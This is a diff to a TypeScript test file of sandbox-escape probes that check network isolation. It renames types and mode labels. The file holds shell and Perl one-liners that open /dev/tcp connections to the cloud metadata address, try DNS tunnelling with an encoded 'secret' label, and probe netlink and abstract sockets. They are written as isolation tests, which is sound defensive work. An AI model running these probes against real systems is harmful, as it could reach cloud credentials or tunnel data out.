@@ -1,5 +1,5 @@
 /** Ways to anything outside of the sandbox: addresses in every spelling, names, sockets. */
-import type { Attempt } from "../support/attempt.ts";
+import type { EscapeAttempt } from "../support/attempt.ts";
 import { walls } from "../support/walls.ts";
 
 /** Every spelling that a C library accepts for 169.254.169.254, and the IPv6 address. */
@@ -27,13 +27,13 @@ const others = {
 
 const unreachable = "*@(unreachable|refused|Cannot assign)*";
 
-function reach(name: string, host: string): Attempt {
+function reach(name: string, host: string): EscapeAttempt {
   const ask = `exec 3<>/dev/tcp/${host}/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3`;
   const script = `verdict "$( (${ask}) 2>&1)" "*reached*" "${unreachable}"`;
-  return { name, control: "EXE-6", script, behind: [walls.network], mode: "A" };
+  return { name, control: "EXE-6", script, behind: [walls.network], mode: "userns" };
 }
 
-export const onTheNetwork: readonly Attempt[] = [
+export const onTheNetwork: readonly EscapeAttempt[] = [
   ...Object.entries(metadata).map(([how, host]) => reach(`the metadata server, ${how}`, host)),
   ...Object.entries(others).map(([what, host]) => reach(what, host)),
   {
@@ -41,7 +41,7 @@ export const onTheNetwork: readonly Attempt[] = [
     control: "NET-3",
     script: 'verdict "$(getent ahostsv4 c2VjcmV0.tunnel.test | head -1)" "10.1.2.3 *" ""',
     behind: [walls.network, walls.noResolver],
-    mode: "A",
+    mode: "userns",
   },
   {
     name: "a DNS tunnel to a resolver of one's own",
@@ -52,7 +52,7 @@ export const onTheNetwork: readonly Attempt[] = [
       $SIG{ALRM} = sub { print "no way"; exit }; alarm 2; $s->recv(my $reply, 512);
       print "answered" if length $reply')" answered "no way"`,
     behind: [walls.network],
-    mode: "A",
+    mode: "userns",
   },
   {
     name: "another network, by the netlink socket that lists it",
@@ -61,7 +61,7 @@ export const onTheNetwork: readonly Attempt[] = [
       send($s, pack("LSSLLSSlLLSSL", 40, 16, 5, 1, 0, 0, 0, 1, 0, 0, 8, 4, 1500), 0) or die $!;
       recv($s, my $reply, 4096, 0) // die $!; print unpack("x16 l", $reply)')" 0 -1`,
     behind: [walls.unprivileged],
-    mode: "B",
+    mode: "setpriv",
   },
   {
     name: "an abstract socket of the machine",
@@ -70,6 +70,6 @@ export const onTheNetwork: readonly Attempt[] = [
       socket(my $s, PF_UNIX, SOCK_STREAM, 0); my $to = pack("Sa*", AF_UNIX, "\\0paddock-escape");
       print connect($s, $to) ? <$s> : $!')" reached "*refused*"`,
     behind: [walls.network],
-    mode: "A",
+    mode: "userns",
   },
 ];
